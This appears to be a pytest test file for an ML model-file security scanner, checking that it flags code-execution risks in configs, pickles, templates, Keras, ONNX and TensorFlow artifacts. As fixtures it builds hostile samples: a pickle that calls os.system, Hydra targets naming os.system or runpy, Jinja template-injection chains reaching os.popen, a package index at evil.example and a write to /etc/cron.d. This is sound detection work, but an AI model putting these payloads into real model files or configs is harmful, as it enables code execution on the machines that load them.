"""Configuration-driven code execution, format escape hatches and fewer false alarms."""

from __future__ import annotations

import base64
import enum
import io
import json
import os
import pickle
import sys
import types
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import h5py
import onnx
import pytest
import torch
from onnx import TensorProto, helper

from donjon.scan import scan_file
from donjon.scan.samples import gguf, pb, safetensors
from donjon.scan.samples_pickle import shell
from donjon.scan.templates import template_problems


def _rules(path: Path) -> set[str]:
    report = scan_file(str(path))
    assert report.error is None
    return {f.rule.id for f in report.findings}


def _write(tmp_path: Path, name: str, data: bytes | str) -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


class _Shell:
    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, (shell(),))


# -- Hydra / OmegaConf targets -----------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("model:\n  encoder:\n    _target_: os.system\n    command: id\n", {"DJ-CFG-001"}),
        ("optim: {_target_: 'subprocess.Popen', args: [id]}\n", {"DJ-CFG-001"}),
        ("trainer:\n  _target_: my_project.callbacks.Hook\n", {"DJ-CFG-002"}),
        ("x:\n  _target_: ${oc.env:TARGET}\n", {"DJ-CFG-002"}),
        ("encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n", set()),
        ("optim:\n  _target_: torch.optim.AdamW\n  lr: 0.001\n", set()),
        ("sched:\n  _target_: torch.optim.lr_scheduler.CosineAnnealingLR\n", set()),
        ("cb:\n  _target_: lightning.pytorch.callbacks.ModelCheckpoint\n", set()),
        ("t:\n  _target_: torchvision.transforms.Compose\n", set()),
        ("t:\n  _target_: torch.utils.data.datapipes.iter.FileOpener\n", {"DJ-CFG-001"}),
    ],
)
def test_hydra_targets_in_yaml_are_judged_like_pickle_globals(
    tmp_path: Path, text: str, expected: set[str]
) -> None:
    assert _rules(_write(tmp_path, "model_config.yaml", text)) == expected
    assert _rules(_write(tmp_path, "model", text)) == expected  # by content, not by name


def test_targets_in_json_safetensors_and_gguf_metadata(tmp_path: Path) -> None:
    config = {"model": {"head": {"_target_": "builtins.eval", "source": "1"}}}
    assert _rules(_write(tmp_path, "c.json", json.dumps(config))) == {"DJ-CFG-001"}
    meta = {"__metadata__": {"config": json.dumps(config), "format": "pt"}}
    meta["w"] = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    assert "DJ-CFG-001" in _rules(_write(tmp_path, "w.safetensors", safetensors(meta, b"\0" * 4)))
    data = bytearray(gguf("{{ messages }}"))
    gguf_yaml = "cfg:\n  _target_: posix.system\n"
    key, value = b"general.config", gguf_yaml.encode()
    data[16:24] = (3).to_bytes(8, "little")  # one more key-value pair
    data += len(key).to_bytes(8, "little") + key + (8).to_bytes(4, "little")
    data += len(value).to_bytes(8, "little") + value
    assert "DJ-CFG-001" in _rules(_write(tmp_path, "m.gguf", bytes(data)))


def test_a_nemo_archive_with_a_malicious_target(tmp_path: Path) -> None:
    import tarfile

    path = tmp_path / "asr.nemo"
    config = b"encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"
    evil = config + b"preprocessor:\n  _target_: runpy.run_path\n  path_name: /tmp/x\n"
    for body, expected in ((config, set()), (evil, {"DJ-CFG-001"})):
        with tarfile.open(path, "w:gz") as tar:
            info = tarfile.TarInfo("model_config.yaml")
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
        assert _rules(path) == expected


# -- shipped code and dependencies ---------------------------------------------------


def test_hugging_face_auto_map_and_the_shipped_module(tmp_path: Path) -> None:
    config = {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}
    assert _rules(_write(tmp_path, "config.json", json.dumps(config))) == {"DJ-CFG-003"}
    plain = _write(tmp_path, "modeling_x.py", "import torch\nclass XModel: pass\n")
    evil = _write(tmp_path, "modeling_y.py", "import subprocess\nsubprocess.run(['id'])\n")
    assert _rules(plain) == {"DJ-CFG-003"}
    assert _rules(evil) == {"DJ-CFG-004"}
    assert _rules(_write(tmp_path, "config2.json", json.dumps({"model_type": "bert"}))) == set()


def test_mlflow_mlmodel_loader_and_code_paths(tmp_path: Path) -> None:
    good = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: conda.yaml\n"
    custom = "flavors:\n  python_function:\n    loader_module: evilpkg.loader\n    code: code\n"
    assert _rules(_write(tmp_path, "MLmodel", good)) == set()
    assert _rules(_write(tmp_path, "MLmodel", custom)) == {"DJ-CFG-002", "DJ-CFG-003"}
    conda = "name: env\ndependencies:\n  - python=3.11\n  - pip:\n    - git+https://x/y.git\n"
    assert _rules(_write(tmp_path, "conda.yaml", conda)) == {"DJ-CFG-005"}


def test_torchserve_mar_handler_and_requirements(tmp_path: Path) -> None:
    manifest = {"model": {"modelName": "m", "handler": "handler.py", "requirementsFile": "r.txt"}}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        archive.writestr("handler.py", "import os\nos.system('id')\n")
        archive.writestr("r.txt", "numpy==2.0\n--extra-index-url https://evil.example/simple\n")
    rules = _rules(_write(tmp_path, "m.mar", buffer.getvalue()))
    assert {"DJ-CFG-003", "DJ-CFG-004", "DJ-CFG-005"} <= rules


def test_requirement_lists_are_recognised_by_structure(tmp_path: Path) -> None:
    assert _rules(_write(tmp_path, "r.txt", "torch==2.1\nevil @ https://x.example/e.whl\n"))
    assert _rules(_write(tmp_path, "req", "-e git+https://x.example/r.git#egg=r\n"))
    assert (
        _rules(_write(tmp_path, "LICENSE", "Apache\nSee http://www.apache.org/licenses/\n"))
        == set()
    )
    assert (
        _rules(
            _write(tmp_path, "requirements.txt", "numpy>=1.26\ntorch==2.1 ; python_version>'3'\n")
        )
        == set()
    )


def test_native_code_inside_an_archive(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("package/data/aotinductor/model.so", b"\x7fELF\x02\x01\x01" + b"\0" * 64)
    assert _rules(_write(tmp_path, "model.pt2", buffer.getvalue())) == {"DJ-ARC-006"}


# -- templates judged by reach -----------------------------------------------------------


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ x['__cla' ~ 'ss__'] }}",
        "{{ x['_' * 2 + 'class' + '_' * 2] }}",
        "{% set n = '__glo' ~ 'bals__' %}{{ lipsum[n] }}",
        "{% set n = '__glo' ~ 'bals__' %}{{ foo[n] }}",
        "{{ messages|attr('__class__') }}",
        "{{ messages|map(attribute='__class__')|list }}",
        "{{ self._TemplateReference__context }}",
        "{{ x.mro() }}",
        "{% for n in ['__class__', '__base__'] %}{{ x[n] }}{% endfor %}",
    ],
)
def test_templates_that_reach_python(template: str) -> None:
    assert template_problems(template) != []


@pytest.mark.parametrize(
    "template",
    [
        "{% for m in messages %}{{ '<|im_start|>' + m['role'] + m['content'] }}{% endfor %}",
        "{{ '__class__ is a Python attribute' }}",
        "Write __init__ in prose, outside any block.",
        "{% set ns = namespace(found=false) %}{{ messages[0]['content'][-1] }}",
        "{{ message.content|trim }}{% if loop.index0 == 0 %}{{ bos_token }}{% endif %}",
        "{% for k in ['role', 'content'] %}{{ message[k] }}{% endfor %}",
    ],
)
def test_benign_templates_pass(template: str) -> None:
    assert template_problems(template) == []


def test_templates_anywhere_in_metadata(tmp_path: Path) -> None:
    evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    config = {"processor": {"prompt_format": evil}}
    assert _rules(_write(tmp_path, "processor_config.json", json.dumps(config))) == {"DJ-GGF-001"}
    assert _rules(_write(tmp_path, "t", evil)) == {"DJ-GGF-001"}


# -- Keras, ONNX, TensorFlow ---------------------------------------------------------------


def test_keras_h5_config_in_any_key_order_and_a_base64_torch_save(tmp_path: Path) -> None:
    payload = io.BytesIO()
    torch.save({"layer": _Shell()}, payload)
    layer = {"config": {"blob": base64.b64encode(payload.getvalue()).decode()}, "class_name": "X"}
    config = {"config": {"layers": [layer]}, "class_name": "Sequential"}
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
    assert "DJ-PKL-001" in _rules(path)
    lam = {"config": {"function": ["x", None, None], "function_type": "lambda"}}
    config = {"config": {"layers": [{**lam, "class_name": "Lambda"}]}, "class_name": "Sequential"}
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
    assert "DJ-KER-001" in _rules(path)


def test_a_keras_archive_is_known_by_its_config(tmp_path: Path) -> None:
    config = {"class_name": "Functional", "config": {"layers": [
        {"module": "os", "class_name": "function", "config": "system"}]}}  # fmt: skip
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.json", json.dumps(config))  # no metadata, no weights
    assert "DJ-KER-002" in _rules(_write(tmp_path, "model.zip", buffer.getvalue()))


def _onnx(nodes: list[onnx.NodeProto], functions: list[onnx.FunctionProto]) -> bytes:
    io_info = [helper.make_tensor_value_info(n, TensorProto.FLOAT, [1]) for n in ("a", "b")]
    graph = helper.make_graph(nodes, "g", io_info[:1], io_info[1:])
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("local.fn", 1)]
    return helper.make_model(graph, functions=functions, opset_imports=opsets).SerializeToString()


def test_onnx_model_local_functions_are_not_custom_ops(tmp_path: Path) -> None:
    body = [helper.make_node("Relu", ["x"], ["y"])]
    fn = helper.make_function("local.fn", "F", ["x"], ["y"], body, [helper.make_opsetid("", 17)])
    call = helper.make_node("F", ["a"], ["b"], domain="local.fn")
    other = helper.make_node("Evil", ["a"], ["b"], domain="local.fn")
    assert _rules(_write(tmp_path, "ok", _onnx([call], [fn]))) == set()
    assert _rules(_write(tmp_path, "bad", _onnx([other], [fn]))) == {"DJ-ONX-002"}


def test_onnx_subgraphs_inside_functions_are_walked(tmp_path: Path) -> None:
    inner = helper.make_graph(
        [helper.make_node("Evil", ["x"], ["y"], domain="ai.evil")], "then", [],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )  # fmt: skip
    branch = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
    fn = helper.make_function(
        "local.fn", "F", ["c"], ["y"], [branch], [helper.make_opsetid("", 17)]
    )
    call = helper.make_node("F", ["a"], ["b"], domain="local.fn")
    assert _rules(_write(tmp_path, "m", _onnx([call], [fn]))) == {"DJ-ONX-002"}


def _saved_model(main: list[tuple[str, str]], functions: dict[str, list[tuple[str, str]]]) -> bytes:
    nodes = b"".join(pb(1, pb(1, name) + pb(2, op)) for name, op in main)
    library = b"".join(
        pb(1, pb(1, pb(1, fname)) + b"".join(pb(3, pb(1, n) + pb(2, o)) for n, o in ops))
        for fname, ops in functions.items()
    )
    return pb(1, 1) + pb(2, pb(2, nodes + pb(2, library)))


def test_tensorflow_saver_ops_are_told_apart_by_context(tmp_path: Path) -> None:
    saver = {"__inference__traced_save_41": [("SaveV2", "SaveV2")]}
    ok = _saved_model([("save/SaveV2", "SaveV2"), ("d", "MatMul")], saver)
    writes = _saved_model([("d", "MatMul")], {"__inference_serving_default_7": [("w", "SaveV2")]})
    reads = _saved_model([("d", "MatMul")], {"__inference_call_3": [("r", "TFRecordDatasetV2")]})
    assert _rules(_write(tmp_path, "ok", ok)) == set()
    assert _rules(_write(tmp_path, "writes", writes)) == {"DJ-TF-001"}
    assert _rules(_write(tmp_path, "reads", reads)) == {"DJ-TF-001"}


# -- fewer false alarms: classes of major libraries -------------------------------------


def _library(name: str, **members: object) -> types.ModuleType:
    module = types.ModuleType(name)
    for key, value in members.items():
        if isinstance(value, type):
            value.__module__ = name
        setattr(module, key, value)
    return module


def test_hugging_face_training_args_bin_is_clean(tmp_path: Path) -> None:
    class IntervalStrategy(str, enum.Enum):  # noqa: UP042 - as transformers defines it
        STEPS = "steps"

    class OptimizerNames(str, enum.Enum):  # noqa: UP042 - as transformers defines it
        ADAMW = "adamw_torch"

    class AcceleratorConfig:
        pass

    @dataclass
    class TrainingArguments:
        output_dir: str = "out"
        eval_strategy: IntervalStrategy = IntervalStrategy.STEPS
        optim: OptimizerNames = OptimizerNames.ADAMW
        accelerator_config: AcceleratorConfig = field(default_factory=AcceleratorConfig)

    modules = {
        "transformers": _library("transformers"),
        "transformers.trainer_utils": _library(
            "transformers.trainer_utils", IntervalStrategy=IntervalStrategy
        ),
        "transformers.training_args": _library(
            "transformers.training_args", TrainingArguments=TrainingArguments,
            OptimizerNames=OptimizerNames,
        ),
        "transformers.trainer_pt_utils": _library(
            "transformers.trainer_pt_utils", AcceleratorConfig=AcceleratorConfig
        ),
    }  # fmt: skip
    for cls in (IntervalStrategy, OptimizerNames, AcceleratorConfig, TrainingArguments):
        cls.__qualname__ = cls.__name__
    saved = dict(sys.modules)
    sys.modules.update(modules)
    try:
        data = pickle.dumps(TrainingArguments(), protocol=2)
    finally:
        sys.modules.clear()
        sys.modules.update(saved)
    assert _rules(_write(tmp_path, "training_args.bin", data)) == set()


def test_keras_registered_name_is_judged_like_a_module_path(tmp_path: Path) -> None:
    layer = {"class_name": "Dense", "config": {}, "registered_name": "subprocess.check_output"}
    custom = {"class_name": "Dense", "config": {}, "registered_name": "MyPkg>Dense"}
    config = {"class_name": "Sequential", "config": {"layers": [layer]}}
    assert "DJ-KER-002" in _rules(_write(tmp_path, "a.json", json.dumps(config)))
    config = {"class_name": "Sequential", "config": {"layers": [custom]}}
    assert _rules(_write(tmp_path, "b.json", json.dumps(config))) == set()


def test_onnx_string_metadata_is_judged_by_content(tmp_path: Path) -> None:
    io_info = [helper.make_tensor_value_info(n, TensorProto.FLOAT, [1]) for n in ("a", "b")]
    graph = helper.make_graph(
        [helper.make_node("Relu", ["a"], ["b"])], "g", io_info[:1], io_info[1:]
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    helper.set_model_props(model, {"prompt": "{{ lipsum.__globals__['os'].popen('id') }}"})
    assert _rules(_write(tmp_path, "m.onnx", model.SerializeToString())) == {"DJ-GGF-001"}
    helper.set_model_props(model, {"author": "me", "prompt": "{{ messages[0]['content'] }}"})
    assert _rules(_write(tmp_path, "ok.onnx", model.SerializeToString())) == set()


def test_protocol_0_pickle_bytes_inside_a_pickle_are_interpreted(tmp_path: Path) -> None:
    inner = pickle.dumps(_Shell(), protocol=0)  # no PROTO header: it starts with GLOBAL
    outer = pickle.dumps(_Holder(inner), protocol=4)
    assert "DJ-PKL-001" in _rules(_write(tmp_path, "outer.pkl", outer))


class _Holder:
    """An unknown class called with bytes: its argument is interpreted when it is a pickle."""

    def __init__(self, blob: bytes) -> None:
        self.blob = blob

    def __reduce__(self) -> tuple[object, ...]:
        return (_Holder, (self.blob,))


def test_tensorflow_print_to_a_file_is_a_file_write(tmp_path: Path) -> None:
    def print_node(stream: str) -> bytes:
        attr = pb(5, pb(1, "output_stream") + pb(2, pb(2, stream)))
        return pb(1, pb(1, "p") + pb(2, "PrintV2") + attr)

    to_file = pb(1, 1) + pb(2, pb(2, print_node("file:///etc/cron.d/x")))
    to_stderr = pb(1, 1) + pb(2, pb(2, print_node("stderr")))
    assert _rules(_write(tmp_path, "a", to_file)) == {"DJ-TF-001"}
    assert _rules(_write(tmp_path, "b", to_stderr)) == set()


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os\nimport torch\nfrom torch import nn\n"
         "VOCAB = os.path.join(os.path.dirname(__file__), 'vocab.txt')\n"
         "def load():\n    with open(VOCAB) as f:\n"
         "        return getattr(nn, 'Linear'), f.read()\n",
         {"DJ-CFG-003"}),
        ("from os import system as s\ns('id')\n", {"DJ-CFG-004"}),
        ("import subprocess as sp\nsp.run(['id'])\n", {"DJ-CFG-004"}),
        ("import socket\n", {"DJ-CFG-004"}),
        ("x = eval('1 + 1')\n", {"DJ-CFG-004"}),
        ("import os\nos.execv('/bin/sh', ['sh'])\n", {"DJ-CFG-004"}),
    ],
)  # fmt: skip
def test_shipped_python_is_judged_by_what_it_calls(
    tmp_path: Path, source: str, expected: set[str]
) -> None:
    assert _rules(_write(tmp_path, "modeling_x.py", source)) == expected


def test_a_lambda_layer_is_reported_once(tmp_path: Path) -> None:
    lam = {"function": ["eA==", None, None], "function_type": "lambda"}
    config = {"class_name": "Sequential", "config": {"layers": [
        {"class_name": "Lambda", "config": lam}]}}  # fmt: skip
    report = scan_file(str(_write(tmp_path, "m.json", json.dumps(config))))
    assert [f.rule.id for f in report.findings] == ["DJ-KER-001"]
